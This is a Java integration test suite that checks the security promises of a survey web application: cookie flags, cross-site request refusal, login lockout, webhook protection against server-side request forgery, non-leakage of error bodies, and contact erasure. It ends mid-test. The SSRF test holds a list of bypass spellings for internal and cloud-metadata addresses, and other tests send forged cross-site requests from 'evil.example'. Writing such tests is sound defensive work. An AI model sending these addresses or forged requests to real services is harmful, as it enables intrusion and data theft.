package org.npsloop.web.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.jboss.arquillian.container.test.api.Deployment;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The security regression suite over HTTP, on PostgreSQL: each section holds one promise of README's
 * "Security and privacy" section, as an attacker or a careful customer would check it. One deployment
 * for all of them (each Payara Micro boot costs ~15 s); every test makes its own users and data, so that
 * it holds whatever else the shared test database contains.
 */
@EnabledIfSystemProperty(named = "it.execution", matches = "postgresql")
class SecurityIT extends OnSharedApplication {


    /** GreenMail on it.smtp.port, for the sections whose users receive mail (one per class: it binds the port). */
    @RegisterExtension
    static final GreenMailExtension SMTP = Mailbox.greenMail();


    // ---------------------------------------------------------------------------------------------
    // 2. No cross-site requests; 3. Login that resists guessing.
    // ---------------------------------------------------------------------------------------------

    private static final String EVIL = "http://evil.example";
    /** The application's report zone (its default): a period's days are days there, not in UTC. */
    private static final java.time.ZoneId REPORT_ZONE = java.time.ZoneId.of("Europe/Paris");
    private static final String CHOSEN_PASSWORD = "Chosen-pass-42";

    @Test
    void theSessionCookieIsHttpOnlyAndSameSiteLax() {
        User user = newUser("MARKETER");
        HttpResponse<String> login = new WebClient(base).postForm("j_security_check",
                Map.of("j_username", user.name(), "j_password", user.password()));
        String cookie = login.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID="))
                .findFirst().orElseThrow(() -> new AssertionError("no session cookie: " + login.headers().map()));
        List<String> attributes = Arrays.stream(cookie.split(";")).map(a -> a.strip().toLowerCase(Locale.ROOT)).toList();
        assertTrue(attributes.contains("httponly"), cookie);
        assertTrue(attributes.contains("samesite=lax"), cookie);
        assertFalse(attributes.contains("secure"), "served over http with an http base URL: " + cookie);
    }

    @Test
    void sessionCallsFromAnotherSiteAreRefusedAndChangeNothingWhileApiKeysWorkFromAnywhere() {
        WebClient api = AudienceApi.marketer(base);
        WebClient executiveKey = apiKey("EXECUTIVE");
        String run = Deployments.unique("csrf");
        String email = run + "@exemple.fr";
        String contact = AudienceApi.id(api.sendJson("POST", "api/contacts", "{\"email\":\"" + email + "\"}"));
        String listId = CampaignApi.listOf(api, run, List.of(email));
        String campaign = AudienceApi.id(api.sendJson("POST", "api/campaigns", "{\"name\":\"" + run + "\",\"surveyId\":"
                + CampaignApi.survey(api, run) + ",\"listId\":" + listId + ",\"sendAt\":\"2099-01-01T09:00:00Z\"}"));
        assertEquals(200, api.sendJson("POST", "api/campaigns/" + campaign + "/schedule", "").statusCode());
        for (int day = 1; day <= 5; day++) { // a publication needs five answers in scope
            HttpResponse<String> answer = api.sendJson("POST", "api/responses", "{\"email\":\"" + email + "\",\"score\":9,"
                    + "\"channel\":\"PHONE\",\"respondedAt\":\"2026-01-0" + day + "T09:00:00Z\",\"campaignId\":" + campaign + "}");
            assertEquals(201, answer.statusCode(), answer.body());
        }
        HttpResponse<String> draft = executiveKey.sendJson("POST", "api/publications", "{\"title\":\"" + run
                + "\",\"language\":\"EN\",\"from\":\"2026-01-01\",\"to\":\"2026-01-31\",\"campaignId\":" + campaign
                + ",\"quoteIds\":[]}");
        assertEquals(201, draft.statusCode(), draft.body());
        String publication = AudienceApi.id(draft);
        String slug = Json.string(Json.object(draft), "slug");
        HttpResponse<String> published = executiveKey.sendJson("POST", "api/publications/" + publication + "/publish", "");
        assertEquals(200, published.statusCode(), published.body());

        WebClient victim = signIn(newUser("MARKETER", "EXECUTIVE")).withHeader("Origin", EVIL);
        String importCsv = "email\n" + run + "-imported@exemple.fr\n";
        String eventsCsv = "email;type;occurred_at;external_id\n" + email + ";purchase;2026-11-20;" + run + "\n";
        List<HttpResponse<String>> refused = List.of(
                victim.send("POST", "api/imports?fileName=" + run + ".csv&listId=" + listId, "text/csv", bytes(importCsv)),
                victim.send("POST", "api/events/import", "text/csv", bytes(eventsCsv)),
                victim.sendJson("POST", "api/campaigns/" + campaign + "/cancel", ""),
                victim.sendJson("POST", "api/publications/" + publication + "/revoke", ""));
        for (HttpResponse<String> answer : refused) {
            assertEquals(403, answer.statusCode(), answer.uri() + ": " + answer.body());
            assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
            JsonObject refusal = Json.object(answer);
            assertEquals(List.of(403L, "Forbidden"), List.of(Json.number(refusal, "status"), Json.string(refusal, "error")), answer.body());
            assertTrue(Json.string(refusal, "message").contains("Cross-site request refused"), answer.body());
        }
        HttpResponse<String> inFrench = victim.withHeader("Accept-Language", "fr")
                .sendJson("POST", "api/campaigns/" + campaign + "/cancel", "");
        assertEquals(403, inFrench.statusCode());
        assertTrue(Json.string(Json.object(inFrench), "message").contains("Requête d'un autre site refusée"), inFrench.body());

        assertFalse(Json.texts(Json.array(api.get("api/imports").body()), "", "fileName").contains(run + ".csv"), "no import started");
        assertEquals(List.of(), Json.objects(Json.object(api.get("api/contacts/" + contact).body()), "events"), "no event stored");
        assertEquals("SCHEDULED", CampaignApi.status(api.get("api/campaigns/" + campaign).body()), "still scheduled");
        assertEquals(200, new WebClient(base).get("p/" + slug).statusCode(), "still public");

        // The same calls with an API key, from the same foreign origin: another system's, not a browser's.
        api.withHeader("Origin", EVIL);
        executiveKey.withHeader("Origin", EVIL);
        HttpResponse<String> imported = api.send("POST", "api/imports?fileName=" + run + ".csv&listId=" + listId,
                "text/csv", bytes(importCsv));
        assertEquals(202, imported.statusCode(), imported.body());
        HttpResponse<String> events = api.send("POST", "api/events/import", "text/csv", bytes(eventsCsv));
        assertEquals(200, events.statusCode(), events.body());
        assertEquals(1, Json.number(Json.object(events), "created"), events.body());
        String stored = api.get("api/contacts/" + contact).body();
        assertEquals(List.of("PURCHASE"), Json.texts(Json.object(stored), "events", "type"), "the event is stored: " + stored);
        assertTrue(Json.string(Json.object(stored), "events.0.occurredAt").startsWith("2026-11-20"), stored);
        assertEquals(200, api.sendJson("POST", "api/campaigns/" + campaign + "/cancel", "").statusCode());
        assertEquals(200, executiveKey.sendJson("POST", "api/publications/" + publication + "/revoke", "").statusCode());
        assertEquals("CANCELLED", CampaignApi.status(api.get("api/campaigns/" + campaign).body()));
        assertEquals(410, new WebClient(base).get("p/" + slug).statusCode());
    }

    @Test
    void textPlainIsNoLongerAcceptedByTheCsvEndpoints() {
        WebClient api = AudienceApi.marketer(base);
        assertEquals(415, api.send("POST", "api/imports", "text/plain", bytes("email\nx@exemple.fr\n")).statusCode());
        assertEquals(415, api.send("POST", "api/events/import", "text/plain", bytes("email;type\n")).statusCode());
    }

    @Test
    void withoutOriginTheFetchMetadataThenTheRefererDecide() {
        WebClient user = signIn(newUser("MARKETER")).withoutHeader("Origin");
        String list = "{\"name\":\"" + Deployments.unique("origin") + "\"}";
        assertEquals(403, user.sendJson("POST", "api/lists", list).statusCode(), "neither Origin nor Referer");
        user.withHeader("Sec-Fetch-Site", "cross-site").withHeader("Referer", base.toExternalForm());
        assertEquals(403, user.sendJson("POST", "api/lists", list).statusCode(), "the browser says cross-site");
        user.withHeader("Sec-Fetch-Site", "same-origin").withHeader("Referer", EVIL + "/");
        assertEquals(201, user.sendJson("POST", "api/lists", list).statusCode(), "the browser says same-origin");
        user.withoutHeader("Sec-Fetch-Site");
        assertEquals(403, user.sendJson("POST", "api/lists", list).statusCode(), "a foreign Referer");
        user.withHeader("Referer", base.toExternalForm() + "audience/lists.xhtml");
        HttpResponse<String> second = user.sendJson("POST", "api/lists", "{\"name\":\"" + Deployments.unique("origin") + "\"}");
        assertEquals(201, second.statusCode(), "the app's own page as Referer: " + second.body());
        user.withoutHeader("Referer").withHeader("Origin", "null");
        assertEquals(403, user.sendJson("POST", "api/lists", list).statusCode(), "an opaque origin alone");
    }

    @Test
    void aPagePostedFromAnotherSiteGetsAReadableRefusal() {
        User user = newUser("MARKETER");
        WebClient browser = signIn(user);
        String viewState = WebClient.viewState(browser.get("account/password.xhtml").body());
        Map<String, String> form = new LinkedHashMap<>();
        form.put("passwordForm", "passwordForm");
        form.put("passwordForm:current", CHOSEN_PASSWORD);
        form.put("passwordForm:newPassword", "Attacker-chosen-99");
        form.put("passwordForm:confirmation", "Attacker-chosen-99");
        form.put("passwordForm:submit", "");
        form.put("jakarta.faces.ViewState", viewState);
        HttpResponse<String> refused = browser.withHeader("Origin", EVIL).postForm("account/password.xhtml", form);
        assertEquals(403, refused.statusCode());
        assertTrue(refused.body().contains("Request refused") && refused.body().contains("nothing was changed"),
                refused.body());
        assertTrue(new WebClient(base).login(user.name(), CHOSEN_PASSWORD).endsWith("/"), "the password is unchanged");
    }

    @Test
    void signInAndSignOutFromAnotherSiteAreRefused() {
        User user = newUser("MARKETER");
        WebClient lured = new WebClient(base).withHeader("Origin", EVIL);
        HttpResponse<String> login = lured.postForm("j_security_check",
                Map.of("j_username", user.name(), "j_password", user.password()));
        assertEquals(403, login.statusCode(), login.body());
        assertTrue(login.body().contains("Request refused"), login.body());
        assertEquals(401, lured.get("api/overview").statusCode(), "no session");

        WebClient signedIn = signIn(user);
        assertEquals(403, signedIn.withHeader("Origin", EVIL).postForm("logout", Map.of()).statusCode());
        assertEquals(200, signedIn.get("api/overview").statusCode(), "still signed in");
        signedIn.withHeader("Origin", WebClient.origin(signedIn.resolve("")));
        assertEquals(302, signedIn.postForm("logout", Map.of()).statusCode());
        assertEquals(401, signedIn.get("api/overview").statusCode(), "signed out from the app's own page");
    }

    @Test
    void wrongPasswordsLockTheAccountFromEveryAddressUntilTheLockEnds() throws InterruptedException {
        User user = newUser("MARKETER");
        String address = testAddress();
        List<String> answers = failFiveTimes(user.name(), address);
        assertTrue(answers.subList(0, 4).stream().allMatch(a -> a.endsWith("/login.xhtml?failed=true")), answers.toString());
        assertTrue(answers.get(4).endsWith("/login.xhtml?locked=1"), answers.toString());

        WebClient right = new WebClient(base).withHeader("X-Forwarded-For", testAddress());
        assertTrue(right.login(user.name(), user.password()).endsWith("/login.xhtml?locked=1"),
                "even the right password, from another address");
        assertEquals(401, right.get("api/overview").statusCode());
        HttpResponse<String> page = right.get("login.xhtml?locked=1");
        assertTrue(page.body().contains("Too many attempts. Try again in 1 minute(s)."), page.body());
        HttpResponse<String> pageFr = new WebClient(base).get("login.xhtml?locked=1&lang=fr");
        assertTrue(pageFr.body().contains("Trop de tentatives. Réessayez dans 1 minute(s)."), pageFr.body());

        // The test configuration locks for 3 s (NPS_LOGIN_ACCOUNT_LOCK_SECONDS); attempts meanwhile are not counted.
        String landing = right.login(user.name(), user.password());
        for (int i = 0; i < 40 && landing.contains("locked"); i++) {
            Thread.sleep(250);
            landing = right.login(user.name(), user.password());
        }
        assertTrue(landing.endsWith("/"), "after the lock: " + landing);
        assertEquals(200, right.get("api/overview").statusCode());
        assertEquals(List.of("/login.xhtml?failed=true"), failures(user.name(), address, 1),
                "a success starts the account afresh");
    }

    @Test
    void anUnknownAccountNameIsThrottledExactlyLikeAnExistingOne() {
        User user = newUser("MARKETER");
        List<String> existing = failFiveTimes(user.name(), testAddress());
        List<String> unknown = failFiveTimes(Deployments.unique("nobody"), testAddress());
        assertEquals(existing, unknown);
        assertTrue(unknown.get(4).endsWith("locked=1"), unknown.toString());
    }

    @Test
    void tooManyFailuresFromOneAddressLockItForEveryAccount() {
        User user = newUser("MARKETER");
        String address = testAddress();
        for (int i = 0; i < 30; i++) { // nps.login.address.max-failures, each on another name
            new WebClient(base).withHeader("X-Forwarded-For", address).login(Deployments.unique("spray"), "Guess-" + i);
        }
        WebClient fromThere = new WebClient(base).withHeader("X-Forwarded-For", address);
        assertTrue(fromThere.login(user.name(), user.password()).endsWith("/login.xhtml?locked=1"));
        WebClient fromElsewhere = new WebClient(base).withHeader("X-Forwarded-For", testAddress());
        assertTrue(fromElsewhere.login(user.name(), user.password()).endsWith("/"), "the account itself is not locked");
    }

    private record User(String name, String password) {
    }

    /** A new user of these roles who has already replaced the temporary password by {@link #CHOSEN_PASSWORD}. */
    private User newUser(String... roles) {
        WebClient admin = new WebClient(base);
        admin.login(Deployments.adminUsername(), Deployments.adminPassword());
        String name = Deployments.unique("sec");
        String roleList = Arrays.stream(roles).map(r -> "\"" + r + "\"").collect(Collectors.joining(","));
        HttpResponse<String> created = admin.sendJson("POST", "api/users",
                "{\"username\":\"" + name + "\",\"roles\":[" + roleList + "],\"password\":\"Temporary-pass-1\"}");
        assertEquals(201, created.statusCode(), created.body());
        WebClient first = new WebClient(base);
        first.login(name, "Temporary-pass-1");
        assertEquals(302, first.changePassword("Temporary-pass-1", CHOSEN_PASSWORD).statusCode());
        return new User(name, CHOSEN_PASSWORD);
    }

    private WebClient signIn(User user) {
        WebClient client = new WebClient(base);
        String landing = client.login(user.name(), user.password());
        assertTrue(landing.endsWith("/"), landing);
        return client;
    }

    private WebClient apiKey(String role) {
        return AudienceApi.withKey(base, role);
    }

    /**
     * A client address of its own (a documentation prefix, RFC 3849), sent in the header the test
     * configuration names: failures counted against it never slow the other tests, which all sign in
     * from 127.0.0.1.
     */
    private static String testAddress() {
        return WebClient.uniqueClientAddress();
    }

    private List<String> failFiveTimes(String name, String address) {
        return failures(name, address, 5);
    }

    /** Where each of n wrong-password sign-ins is sent back to (the login page's query tells why). */
    private List<String> failures(String name, String address, int n) {
        List<String> answers = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            String location = new WebClient(base).withHeader("X-Forwarded-For", address).login(name, "Wrong-pass-" + i);
            answers.add(location.substring(location.indexOf("/login.xhtml")));
        }
        return answers;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------------------------------------
    // 4. Webhook without SSRF.
    // ---------------------------------------------------------------------------------------------

    // (Fully qualified names in this section keep the import list free of merge conflicts.)

    /**
     * The test deployment allows exactly the host 127.0.0.1 (NPS_OUTBOUND_ALLOWED, for the receivers of these
     * tests): every other spelling or name of this machine, the cloud metadata address and private networks
     * are refused when saved, with a 400 naming {@code url} and the reason, and nothing is stored.
     */
    @org.junit.jupiter.api.Test
    void webhookAddressesReachingInternalHostsAreRefused() {
        WebClient admin = new WebClient(base);
        admin.login(Deployments.adminUsername(), Deployments.adminPassword());
        String before = admin.get("api/webhook").body();
        java.util.Map<String, String> refusals = new java.util.LinkedHashMap<>();
        refusals.put("http://169.254.169.254/latest/meta-data/", "link-local");
        refusals.put("https://169.254.169.254/latest/meta-data/", "link-local");
        refusals.put("http://[::ffff:127.0.0.1]:8080/", "loopback");
        refusals.put("http://[::ffff:169.254.169.254]/", "link-local");
        refusals.put("http://2130706433/", "written as a number");
        refusals.put("http://2130706434/", "written as a number");
        refusals.put("http://0177.0.0.1/", "written as a number");
        refusals.put("http://0x7f.1/", "written as a number");
        refusals.put("http://localhost/", "loopback");
        refusals.put("http://127.0.0.2/", "loopback");
        refusals.put("http://10.0.0.1/", "private network");
        refusals.put("https://192.168.1.1/", "private network");
        refusals.put("http://[::1]/", "loopback");
        refusals.put("http://0.0.0.0/", "unspecified");
        refusals.put("http://[::]/", "unspecified");
        refusals.put("https://100.64.0.1/", "carrier-grade NAT");
        refusals.put("https://[fd00::1]/", "unique local");
        refusals.put("https://[fe80::1]/", "link-local");
        refusals.put("https://224.0.0.1/", "multicast");
        refusals.forEach((url, reason) -> {
            java.net.http.HttpResponse<String> refused = admin.sendJson("PUT", "api/webhook",
                    "{\"url\":\"" + url + "\",\"enabled\":true}");
            org.junit.jupiter.api.Assertions.assertEquals(400, refused.statusCode(), url + ": " + refused.body());
            org.junit.jupiter.api.Assertions.assertTrue(Json.refusal(refused, "url").contains(reason), url + ": " + refused.body());
        });
        org.junit.jupiter.api.Assertions.assertEquals(before, admin.get("api/webhook").body(), "nothing stored");

        // In French for a French client.
        WebClient french = new WebClient(base).withHeader("Accept-Language", "fr");
        french.login(Deployments.adminUsername(), Deployments.adminPassword());
        java.net.http.HttpResponse<String> refused = french.sendJson("PUT", "api/webhook", "{\"url\":\"http://localhost/\",\"enabled\":true}");
        org.junit.jupiter.api.Assertions.assertTrue(refused.statusCode() == 400 && Json.refusal(refused, "url").contains("adresse de bouclage"),
                refused.body());
    }

    /**
     * A receiver that refuses a delivery with a 500 whose body holds a secret: the delivery log (API and
     * settings page) shows the status code, never that body.
     */
    @org.junit.jupiter.api.Test
    void aFailedDeliveryShowsItsStatusCodeNeverTheReceiversBody() throws Exception {
        String run = Deployments.unique("ssrf");
        String leaked = "AKIA" + run.replaceAll("[^A-Za-z0-9]", "").toUpperCase() + " password=hunter2";
        // Ours: the deliveries about the response of this test's contact (known before the response is written, so
        // that even its first delivery is recognised), by the parsed response.contactId.
        java.util.concurrent.atomic.AtomicLong ours = new java.util.concurrent.atomic.AtomicLong(-1);
        java.util.concurrent.atomic.AtomicInteger refusedDeliveries = new java.util.concurrent.atomic.AtomicInteger();
        com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getByName("127.0.0.1"), Integer.getInteger("it.webhook.port", 8531)), 0);
        receiver.createContext("/hook", exchange -> {
            String body = new String(exchange.getRequestBody().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
            // Other tests' responses on the shared database may arrive too: they are accepted.
            boolean mine = ours.get() > 0 && ours.get() == contactOf(body);
            if (mine) {
                refusedDeliveries.incrementAndGet();
            }
            byte[] answer = (mine ? "internal error, debug: " + leaked : "ok").getBytes(java.nio.charset.StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(mine ? 500 : 200, answer.length);
            exchange.getResponseBody().write(answer);
            exchange.close();
        });
        receiver.start();
        WebClient admin = new WebClient(base);
        admin.login(Deployments.adminUsername(), Deployments.adminPassword());
        WebClient marketer = AudienceApi.marketer(base);
        String contact = null;
        Webhooks.Found found = null;
        try {
            found = Webhooks.pointAt(admin, "http://127.0.0.1:" + receiver.getAddress().getPort() + "/hook/" + run, false);
            contact = AudienceApi.id(marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "@exemple.fr\",\"language\":\"FR\"}"));
            ours.set(Long.parseLong(contact));
            java.net.http.HttpResponse<String> entered = marketer.sendJson("POST", "api/responses",
                    "{\"contactId\":" + contact + ",\"score\":3,\"channel\":\"PHONE\",\"respondedAt\":\"" + java.time.Instant.now() + "\"}");
            org.junit.jupiter.api.Assertions.assertEquals(201, entered.statusCode(), entered.body());
            String response = AudienceApi.id(entered);

            // Wait until our delivery has been refused and logged as such (the log holds other tests' deliveries too).
            String log = "[]";
            java.util.List<JsonObject> entry = java.util.List.of();
            long end = System.nanoTime() + java.time.Duration.ofSeconds(60).toNanos();
            while ((entry.isEmpty() || !Json.has(entry.get(0), "lastStatus")) && System.nanoTime() < end) {
                Thread.sleep(250);
                log = admin.get("api/webhook/deliveries?size=1000").body();
                entry = Json.where(Json.array(log), "", "responseId", response);
            }
            org.junit.jupiter.api.Assertions.assertTrue(refusedDeliveries.get() > 0, "the receiver refused our delivery");
            org.junit.jupiter.api.Assertions.assertEquals(1, entry.size(), "one delivery of our response: " + log);
            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of(500L, "HTTP 500"), java.util.List.of(
                    Json.number(entry.get(0), "lastStatus"), Json.string(entry.get(0), "lastError")), "the status code is shown: " + log);
            org.junit.jupiter.api.Assertions.assertFalse(log.contains("hunter2") || log.contains(leaked.substring(0, 12)),
                    "the receiver's answer is not shown: " + log);
            String page = admin.get("admin/settings.xhtml").body();
            org.junit.jupiter.api.Assertions.assertTrue(page.contains("HTTP 500"), "the settings page shows the status: " + page);
            org.junit.jupiter.api.Assertions.assertFalse(page.contains("hunter2") || page.contains(leaked.substring(0, 12)),
                    "the settings page does not show the receiver's answer");
        } finally {
            // Off again, so that later tests send nothing to a receiver that is gone, then as found; our contact
            // erased with its answer.
            if (found != null) {
                found.putBack();
            }
            receiver.stop(0);
            if (contact != null) {
                marketer.sendJson("DELETE", "api/contacts/" + contact, "");
            }
        }
    }



    // ---------------------------------------------------------------------------------------------
    // 5. Erasure that erases.
    // ---------------------------------------------------------------------------------------------

    /**
     * A contact who answered an invitation through the respondent page, changed the comment, answered an additional
     * question in words, was quoted in a
     * published synthesis, got a follow-up with a note naming them, a webhook event, an SMTP error, outbox mails
     * and a rejected import line is erased through the API: afterwards no text column of any table (listed
     * from the database catalogue) holds the address, the last name or the comment's unique word, and the
     * webhook receiver is told {@code contact.erased} with the contact's id only.
     */
    @org.junit.jupiter.api.Test
    void anErasedContactLeavesNoTraceInAnyTable() throws Exception {
        String run = Deployments.unique("erase");
        String suffix = run.substring(run.indexOf('-') + 1);
        String email = run + "@exemple.fr";
        String firstName = "Ernestine" + suffix;
        String lastName = "Vasquezerase" + suffix;
        String word = "zorglub" + suffix;
        java.util.List<String> hookBodies = new java.util.concurrent.CopyOnWriteArrayList<>();
        com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getByName("127.0.0.1"), Integer.getInteger("it.webhook.port", 8531)), 0);
        receiver.createContext("/hook", exchange -> {
            // Other tests' events may arrive too: all are accepted, only this contact's are looked at.
            hookBodies.add(new String(exchange.getRequestBody().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        receiver.start();
        WebClient admin = new WebClient(base);
        admin.login(Deployments.adminUsername(), Deployments.adminPassword());
        WebClient marketer = AudienceApi.marketer(base);
        String campaign = null;
        Webhooks.Found found = null;
        try {
            found = Webhooks.pointAt(admin, "http://127.0.0.1:" + receiver.getAddress().getPort() + "/hook/" + run, false);
            String contact = AudienceApi.id(marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + email + "\",\"firstName\":\""
                    + firstName + "\",\"lastName\":\"" + lastName + "\",\"language\":\"EN\"}"));
            String list = AudienceApi.id(marketer.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
            org.junit.jupiter.api.Assertions.assertEquals(200, marketer.sendJson("POST", "api/lists/" + list + "/members",
                    "{\"emails\":[\"" + email + "\"]}").statusCode());
            String survey = CampaignApi.survey(marketer, run);
            campaign = CampaignApi.sendNow(marketer, run, survey, list);

            // The invitation, answered on the respondent page (after the bot delay), then changed: history.
            jakarta.mail.internet.MimeMessage invitation = null;
            for (int i = 0; i < 240 && invitation == null; i++) {
                Thread.sleep(250);
                invitation = Mailbox.to(SMTP, run).stream().findFirst().orElse(null);
            }
            org.junit.jupiter.api.Assertions.assertNotNull(invitation, "the invitation was mailed");
            String token = Respondents.token(invitation);
            java.time.Instant sent = (java.time.Instant) Respondents.invitation(token).get("sent_at");
            Thread.sleep(Math.max(0, java.time.Duration.between(java.time.Instant.now(), sent.plusSeconds(6)).toMillis()));
            org.junit.jupiter.api.Assertions.assertEquals(303, Respondents.post(base, "r/" + token,
                    "score=2&comment=Slow+courier%2C+" + word + "+everywhere&consent=yes", "en").statusCode());
            org.junit.jupiter.api.Assertions.assertEquals(303, Respondents.post(base, "r/" + token,
                    "score=3&comment=Slow+courier+and+rude+staff%2C+" + word + "&consent=yes", "en").statusCode());
            long response = ((Number) Respondents.rows("SELECT id FROM response WHERE contact_id = ?", Long.parseLong(contact))
                    .get(0).get("id")).longValue();
            org.junit.jupiter.api.Assertions.assertFalse(Respondents.rows("SELECT 1 FROM response_change WHERE response_id = ? "
                    + "AND comment_text LIKE ?", response, "%everywhere%").isEmpty(), "the first comment is in the history");
            // A short-text answer to an additional question naming the person, and its earlier version, as the app writes them.
            long question = Respondents.question(Long.parseLong(survey), 1, "SHORT_TEXT", "EVERYONE", false, "Anything else?", null, null);
            Respondents.update("INSERT INTO response_answer (id, response_id, question_id, text_value, answered_at, updated_at) "
                    + "VALUES (nextval('response_answer_seq'), ?, ?, ?, now(), now())", response, question, "Ask " + lastName + " about " + word);
            Respondents.update("INSERT INTO response_answer_change (id, response_id, question_id, value_text, changed_at) "
                    + "VALUES (nextval('response_answer_change_seq'), ?, ?, ?, now())", response, question, "Ask " + lastName);

            // Quoted in a published synthesis (with four more answers, the least a publication needs).
            for (int i = 0; i < 4; i++) {
                String other = run + "-other" + i + "@exemple.fr";
                marketer.sendJson("POST", "api/contacts", "{\"email\":\"" + other + "\",\"language\":\"EN\"}");
                org.junit.jupiter.api.Assertions.assertEquals(201, marketer.sendJson("POST", "api/responses", "{\"email\":\"" + other
                        + "\",\"score\":" + (6 + i) + ",\"channel\":\"PHONE\",\"respondedAt\":\"" + java.time.Instant.now().minusSeconds(60)
                        + "\",\"campaignId\":" + campaign + "}").statusCode());
            }
            WebClient executive = new WebClient(base).withHeader("Authorization", "Bearer " + secretOf(admin.sendJson("POST",
                    "api/api-keys", "{\"name\":\"" + run + "\",\"role\":\"EXECUTIVE\"}").body()));
            String today = java.time.LocalDate.now(REPORT_ZONE).toString(); // the report zone: days of a period are its days
            java.net.http.HttpResponse<String> draft = executive.sendJson("POST", "api/publications", "{\"title\":\"Erasure " + suffix
                    + "\",\"language\":\"EN\",\"from\":\"" + java.time.LocalDate.parse(today).minusDays(1) + "\",\"to\":\"" + today + "\",\"campaignId\":" + campaign
                    + ",\"granularity\":\"WEEK\",\"quoteIds\":[" + response + "]}");
            org.junit.jupiter.api.Assertions.assertEquals(201, draft.statusCode(), draft.body());
            String publication = AudienceApi.id(draft);
            java.net.http.HttpResponse<String> published = executive.sendJson("POST", "api/publications/" + publication + "/publish", "");
            org.junit.jupiter.api.Assertions.assertEquals(200, published.statusCode(), published.body());
            org.junit.jupiter.api.Assertions.assertFalse(Respondents.rows("SELECT 1 FROM publication_version WHERE publication_id = ? "
                    + "AND content LIKE ?", Long.parseLong(publication), "%" + word + "%").isEmpty(), "the snapshot quotes the comment");

            // A follow-up (listing creates it) with a note naming the person.
            marketer.get("api/follow-ups?status=NEW&size=500");
            java.util.List<java.util.Map<String, Object>> followUp = Respondents.rows("SELECT id FROM follow_up WHERE response_id = ?", response);
            org.junit.jupiter.api.Assertions.assertEquals(1, followUp.size(), "a follow-up for the detractor");
            org.junit.jupiter.api.Assertions.assertEquals(201, marketer.sendJson("POST", "api/follow-ups/" + followUp.get(0).get("id")
                    + "/notes", "{\"text\":\"Called " + firstName + " " + lastName + " about " + word + "\"}").statusCode());

            // A rejected import line holding the address and the name (one field too many).
            java.net.http.HttpResponse<String> imported = marketer.send("POST", "api/imports?fileName=" + run + ".csv", "text/csv",
                    ("email;firstName;lastName;language\r\n" + run + "-ok@exemple.fr;Ok;Fine;EN\r\n" + email + ";" + firstName + ";"
                            + lastName + ";EN;surplus\r\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
            org.junit.jupiter.api.Assertions.assertEquals(202, imported.statusCode(), imported.body());
            String status = finishedImport(marketer, imported);
            org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of("DONE", 1L, 1L), java.util.List.of(Json.string(Json.object(status),
                    "status"), Json.number(Json.object(status), "imported"), Json.number(Json.object(status), "rejected")), status);
            org.junit.jupiter.api.Assertions.assertFalse(Respondents.rows("SELECT 1 FROM import_rejection WHERE raw_line LIKE ?",
                    "%" + email + "%").isEmpty(), "the rejected line quotes the address");

            // What the test deployment cannot provoke through SMTP (GreenMail accepts every mail, and the dev
            // outbox is off when an SMTP host is set), written as the app writes it: a 4xx error quoting the
            // address on the invitation, the invitation and a follow-up assignment mail in the outbox.
            Respondents.update("UPDATE invitation SET last_error = ? WHERE contact_id = ?",
                    "451 4.2.0 <" + email + ">: mailbox busy, try later", Long.parseLong(contact));
            Respondents.update("INSERT INTO outbox_message (id, invitation_id, recipient, subject, html_body, text_body, created_at) "
                    + "SELECT nextval('outbox_message_seq'), id, ?, ?, ?, ?, now() FROM invitation WHERE contact_id = ?", email,
                    "How likely are you to recommend Acme?", "<p>Hello " + firstName + "</p>", "Hello " + firstName + " " + lastName,
                    Long.parseLong(contact));
            Respondents.update("INSERT INTO outbox_message (id, invitation_id, recipient, subject, html_body, text_body, created_at) "
                    + "VALUES (nextval('outbox_message_seq'), NULL, ?, ?, ?, ?, now())", run + "-owner@exemple.fr",
                    "Follow-up for you: score 3", "<p>Customer: " + firstName + " " + lastName + " &lt;" + email + "&gt;</p><p>" + word + "</p>",
                    "Customer: " + firstName + " " + lastName + " <" + email + ">\n" + word);

            // The webhook carried the person's data before the erasure.
            awaitHook(hookBodies, b -> email.equals(eventField(b, "response.contactEmail"))
                    && String.valueOf(eventField(b, "response.comment")).contains(word), "a response event with the address and comment");

            // Unsubscribed, with a note naming the person.
            org.junit.jupiter.api.Assertions.assertEquals(201, marketer.sendJson("POST", "api/suppressions", "{\"email\":\"" + email
                    + "\",\"reason\":\"UNSUBSCRIBED\",\"note\":\"Asked by phone, " + lastName + "\"}").statusCode());

            org.junit.jupiter.api.Assertions.assertEquals(204, marketer.sendJson("DELETE", "api/contacts/" + contact, "").statusCode());

            java.util.List<String> hits = Respondents.textColumnsHolding(java.util.List.of(email, lastName.toLowerCase(java.util.Locale.ROOT), word));
